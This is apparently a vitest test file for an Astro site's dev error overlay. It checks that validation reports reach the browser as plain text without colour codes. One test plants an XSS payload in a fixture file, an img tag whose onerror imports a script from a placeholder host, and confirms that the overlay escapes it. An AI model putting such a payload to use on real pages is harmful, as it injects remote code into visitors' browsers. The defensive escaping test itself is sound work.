// What `astro dev` sends to the browser's error overlay: the validator's report, word for word, as
// HTML that shows the text and runs nothing (Astro's overlay sets the message with innerHTML).
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { fromHtml } from 'hast-util-from-html';
import { toText } from 'hast-util-to-text';
import { describe, expect, test } from 'vitest';
import { isContentFile, overlayPayload } from '../../../src/validate/dev-overlay.ts';
import { formatText } from '../../../src/validate/format.ts';
import { validateContent } from '../../../src/validate/index.ts';
import { fixture } from './helpers.ts';

/** What an element shows after `element.innerHTML = html`. */
const shownText = (html: string) => toText(fromHtml(html, { fragment: true }), { whitespace: 'pre' });

describe('the dev error overlay', () => {
  test('carries the same text as the terminal report, without colour codes', async () => {
    const report = await validateContent(fixture('several-faults'));
    const payload = overlayPayload(report)!;
    expect(payload.type).toBe('error');
    expect(shownText(payload.err.message)).toBe(formatText(report, { color: false }));
    expect(payload.err.message).not.toContain('\u001b[');
    expect(payload.err.title).toBe('Content problems');
    expect(shownText(payload.err.hint!)).toBe('Fix these files and save: the page updates by itself. `npm run validate` prints the same list; content/README.md explains each code.');
    expect(payload.err.stack).toBe('');
  });

  test('a quoted tag from the content reaches the overlay as text, not as an element', async () => {
    const root = fs.mkdtempSync(path.join(os.tmpdir(), 'overlay-'));
    try {
      fs.cpSync(fixture('valid'), root, { recursive: true });
      const file = path.join(root, 'statements', '2019-guatemala.md');
      fs.appendFileSync(file, '\nHello <img src=x onerror="import(\'//e.x/p.js\')"> world, <a href="https://e.x/">"quoted" & more</a>.\n');
      const report = await validateContent(root);
      const { message } = overlayPayload(report)!.err;
      const tree = fromHtml(message, { fragment: true });
      expect(tree.children.every((node) => node.type === 'text'), 'no element in the overlay message').toBe(true);
      expect(message).not.toMatch(/[<>"]/);
      expect(shownText(message)).toBe(formatText(report, { color: false }));
      expect(shownText(message)).toContain('<img src=x onerror="import(\'//e.x/p.js\')">');
    } finally {
      fs.rmSync(root, { recursive: true, force: true });
    }
  });

  test('there is no overlay when the content is valid', async () => {
    expect(overlayPayload(await validateContent(fixture('valid')))).toBeUndefined();
  });

  test('only files inside the content folder trigger a new check', () => {
    const root = path.resolve('content');
    expect(isContentFile(path.join(root, 'statements', 'a.md'), root)).toBe(true);
    expect(isContentFile(path.join(root, 'sources', 'a.txt'), root)).toBe(true);
    expect(isContentFile(root, root)).toBe(false);
    expect(isContentFile(path.resolve('src/pages/index.astro'), root)).toBe(false);
    expect(isContentFile(path.resolve('content-old/statements/a.md'), root)).toBe(false);
  });
});
